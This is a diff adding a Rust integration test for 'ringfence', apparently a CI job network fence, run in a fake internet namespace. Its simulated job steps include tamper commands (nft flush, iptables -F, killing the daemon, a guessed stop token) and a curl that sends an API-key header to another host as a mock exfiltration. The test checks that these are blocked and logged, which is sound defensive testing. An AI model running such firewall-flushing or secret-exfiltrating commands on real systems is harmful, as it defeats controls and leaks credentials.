@@ -1,0 +1,231 @@
+//! Job mode for real: a runner played by `tests/job/runner.sh` (a runner user with passwordless
+//! sudo, the file commands, steps run one by one, the post step) inside the fake internet's
+//! host-side namespace and a private mount namespace, with the job's processes in a cgroup the
+//! test makes. `ringfence job start` fences the steps that follow it; `job stop` in the post
+//! step ends the fence and writes the reports. Nothing touches the real machine's namespace.
+
+mod support;
+
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use journal::{Event, Verdict};
+use testnet::{FakeInternet, SERIAL, TestCgroup};
+
+const SECRET: &str = "sk-ant-api03-jobmodeRealValue0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH-AA";
+
+struct Job {
+    stdout: String,
+    records: Vec<journal::Record>,
+    out_dir: PathBuf,
+    _work: tempfile::TempDir,
+}
+
+impl Job {
+    fn step(&self, name: &str) -> Option<i32> {
+        self.stdout
+            .lines()
+            .find_map(|l| l.strip_prefix(&format!("STEP {name} rc=")))
+            .and_then(|rc| rc.trim().parse().ok())
+    }
+
+    fn output(&self, name: &str) -> String {
+        let prefix = format!("OUT {name} ");
+        self.stdout.lines().filter_map(|l| l.strip_prefix(&prefix)).collect::<Vec<_>>().join("\n")
+    }
+
+    fn events(&self) -> impl Iterator<Item = &Event> {
+        self.records.iter().map(|r| &r.event)
+    }
+
+    /// The pid of the first exec of `program` with an argument containing `needle`.
+    fn exec_of(&self, program: &str, needle: &str) -> Option<u32> {
+        self.events().find_map(|e| match e {
+            Event::ProcessExec(x)
+                if x.argv.first().is_some_and(|a| a.rsplit('/').next() == Some(program))
+                    && x.argv.iter().any(|a| a.contains(needle)) =>
+            {
+                Some(x.pid)
+            }
+            _ => None,
+        })
+    }
+}
+
+/// Plays one job: `start` is the main step's `ringfence job start` arguments, `steps` the later
+/// steps (`name:command`).
+fn play(net: &FakeInternet, mode: &str, steps: &[&str]) -> Job {
+    let work = support::scratch();
+    let cgroup = TestCgroup::new(&format!("job-{mode}"));
+    let policy = work.path().join("ringfence.yml");
+    std::fs::write(
+        &policy,
+        format!(
+            "version: 1\nmode: {mode}\negress:\n  allow:\n    - {{ host: allowed.test, ports: [443, 80] }}\n    - {{ host: a.wild.test, ports: [443] }}\n\
+             dns:\n  upstream: [\"{}\"]\n",
+            net.upstream()[0]
+        ),
+    )
+    .unwrap();
+    let steps_file = work.path().join("steps");
+    std::fs::write(&steps_file, steps.join("\n") + "\n").unwrap();
+    let out_dir = work.path().join("run");
+    let main = format!(
+        "ANTHROPIC_API_KEY=\"$SECRET_VALUE\" sudo -n --preserve-env=GITHUB_OUTPUT,GITHUB_ENV,GITHUB_STATE,GITHUB_WORKSPACE,RUNNER_TEMP,ANTHROPIC_API_KEY \
+         \"$RF\" job start --policy {} --secret ANTHROPIC_API_KEY=allowed.test --disable-sudo --cgroup \"$CGROUP\" \
+         --upstream-ca {} --out {}",
+        policy.display(),
+        net.ca().display(),
+        out_dir.display()
+    );
+    let post =
+        "sudo -n \"$RF\" job stop --token \"$STATE_ringfence_stop_token\" --summary \"$GITHUB_STEP_SUMMARY\"";
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/job/runner.sh");
+    let output = net
+        .host_command("unshare")
+        .args(["--mount", "--propagation", "private", "bash"])
+        .arg(&script)
+        .env("RF", support::binary())
+        .env("WORK", work.path())
+        .env("CGROUP", &cgroup.path)
+        .env("STEPS", &steps_file)
+        .env("MAIN", main)
+        .env("POST", post)
+        .env("SECRET_VALUE", SECRET)
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let records = match journal::read(&out_dir.join("events.jsonl")) {
+        Ok(Ok(verified)) => verified.records,
+        other => panic!(
+            "journal did not verify: {other:?}\nstdout:\n{stdout}\nstderr:\n{}",
+            String::from_utf8_lossy(&output.stderr)
+        ),
+    };
+    Job { stdout, records, out_dir, _work: work }
+}
+
+/// Curl with the CA the job's later steps were given (`SSL_CERT_FILE` through GITHUB_ENV).
+const CURL: &str = "curl -sS --max-time 10 -o /dev/null -w '%{http_code}\\n'";
+
+#[test]
+fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
+    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare", "node"]) {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let net = FakeInternet::new();
+    let node_get = "node -e \"require('https').get('https://denied.test/', r => console.log('status', r.statusCode)).on('error', e => { console.log('error', e.code); process.exit(3) })\"";
+    let steps = [
+        &format!("allowed:{CURL} --cacert \"$SSL_CERT_FILE\" https://allowed.test/") as &str,
+        &format!("denied:{CURL} https://denied.test/"),
+        &format!("by_ip:{CURL} http://198.51.100.11/"),
+        &format!("nodeaction:{node_get}"),
+        "dnsdirect:dig +time=2 +tries=1 @198.51.100.53 denied.test A | grep -E 'status:|^denied'",
+        "nftflush:sudo -n nft flush ruleset",
+        "iptables:sudo -n iptables -F",
+        "kill:kill -TERM $(pgrep -f 'ringfence job start' | head -1) 2>&1; echo killed=$?",
+        "earlystop:sudo -n \"$RF\" job stop --token guessed --summary /dev/null",
+        "sentinel:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" 'https://allowed.test/headers?reversed=1'",
+        "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
+        "failing:exit 7",
+    ];
+    let job = play(&net, "block", &steps);
+    let out = |s| job.output(s);
+    assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
+    assert!(
+        job.stdout.contains("OUT main ::add-mask::"),
+        "the secret and sentinel are masked:\n{}",
+        out("main")
+    );
+    assert_eq!(out("allowed").trim(), "200", "an allowed name works through the fence: {}", job.stdout);
+    assert_ne!(out("denied").trim(), "200", "an unlisted name is refused");
+    assert_ne!(out("by_ip").trim(), "200", "a direct IP is refused");
+    assert_ne!(job.step("nodeaction"), Some(0), "node to an unlisted name fails: {}", out("nodeaction"));
+    let dns = out("dnsdirect");
+    assert!(
+        dns.contains("status: NXDOMAIN") && !dns.contains("198.51.100.11"),
+        "DNS to another resolver is answered by ringfence: {dns}"
+    );
+    assert_ne!(job.step("nftflush"), Some(0), "sudo is gone: {}", out("nftflush"));
+    assert_ne!(job.step("iptables"), Some(0), "sudo is gone: {}", out("iptables"));
+    assert!(!out("kill").contains("killed=0"), "the job user cannot signal the daemon: {}", out("kill"));
+    assert_ne!(job.step("earlystop"), Some(0), "a stop without the token is refused: {}", out("earlystop"));
+    // The sentinel reached the secret's own host as the real value (the server shows it reversed).
+    let reversed: String = SECRET.chars().rev().collect();
+    assert!(
+        out("sentinel").contains(&reversed),
+        "the proxy swapped the sentinel toward its host: {}",
+        out("sentinel")
+    );
+    assert_eq!(job.step("failing"), Some(7));
+    assert_eq!(
+        job.step("post"),
+        Some(0),
+        "post after a failed step still stops and reports: {}",
+        out("post")
+    );
+    assert!(!job.stdout.contains("LEFTOVER"), "the daemon is gone after stop");
+
+    // The journal: attributed refusals, the tamper attempts, the sentinel exfiltration.
+    let curl_denied =
+        job.exec_of("curl", "https://denied.test/").expect("the denied curl's exec is recorded");
+    let refused_denied = job.events().any(|e| match e {
+        Event::DnsQuery(q) => {
+            q.name.trim_end_matches('.') == "denied.test"
+                && q.verdict == Verdict::Blocked
+                && q.pid == Some(curl_denied)
+        }
+        _ => false,
+    });
+    assert!(refused_denied, "denied.test refused and attributed to curl (pid {curl_denied})");
+    let node = job.exec_of("node", "denied.test").expect("node's exec");
+    let node_refused = job
+        .events()
+        .any(|e| matches!(e, Event::DnsQuery(q) if q.pid == Some(node) && q.verdict == Verdict::Blocked));
+    assert!(node_refused, "node's lookup refused and attributed to node (pid {node})");
+    let by_ip = job.events().any(|e| matches!(e, Event::NetConnect(c) if c.ip == "198.51.100.11" && c.verdict == Verdict::Blocked && c.pid.is_some()));
+    assert!(by_ip, "the direct-IP connection is refused and attributed");
+    let tamper = job.events().any(|e| matches!(e, Event::PolicyViolation(v) if v.rule == "job.tamper"));
+    assert!(tamper, "the early stop request is recorded");
+    let sender = job.exec_of("curl", "https://a.wild.test/").expect("the exfiltrating curl's exec");
+    let exfil = job.events().any(|e| matches!(e, Event::SecretExfil(x) if x.pid == Some(sender)));
+    assert!(
+        exfil,
+        "the sentinel toward another allowed host is refused and attributed to curl (pid {sender})"
+    );
+    // The real value is nowhere in the job's files.
+    let summary = std::fs::read_to_string(job.out_dir.join("report.md")).unwrap();
+    assert!(!summary.contains(SECRET), "the report never holds the real value");
+    assert!(
+        !job.stdout.replace(&format!("::add-mask::{SECRET}"), "").contains(SECRET),
+        "no step saw the real value"
+    );
+    let step_summary = job.stdout.lines().find_map(|l| l.strip_prefix("SUMMARY ")).unwrap();
+    let appended = std::fs::read_to_string(step_summary.trim()).unwrap();
+    assert!(appended.contains("ringfence"), "report.md appended to the post step's summary");
+}
+
+#[test]
+fn audit_mode_records_every_step_and_lets_it_through() {
+    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare"]) {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let net = FakeInternet::new();
+    let steps = [&format!("denied:{CURL} --cacert \"$SSL_CERT_FILE\" https://denied.test/") as &str];
+    let job = play(&net, "audit", &steps);
+    assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
+    assert_eq!(job.output("denied").trim(), "200", "audit mode lets it through: {}", job.stdout);
+    assert_eq!(job.step("post"), Some(0), "{}", job.output("post"));
+    let curl = job.exec_of("curl", "https://denied.test/").expect("curl's exec is recorded with its argv");
+    let flagged = job.events().any(|e| match e {
+        Event::NetConnect(c) => {
+            c.host.as_deref() == Some("denied.test") && c.violation && c.pid == Some(curl)
+        }
+        _ => false,
+    });
+    assert!(flagged, "the connection is flagged and attributed to curl (pid {curl})");
+    assert!(job.out_dir.join("suggested-policy.yml").is_file(), "audit mode proposes a policy");
+}
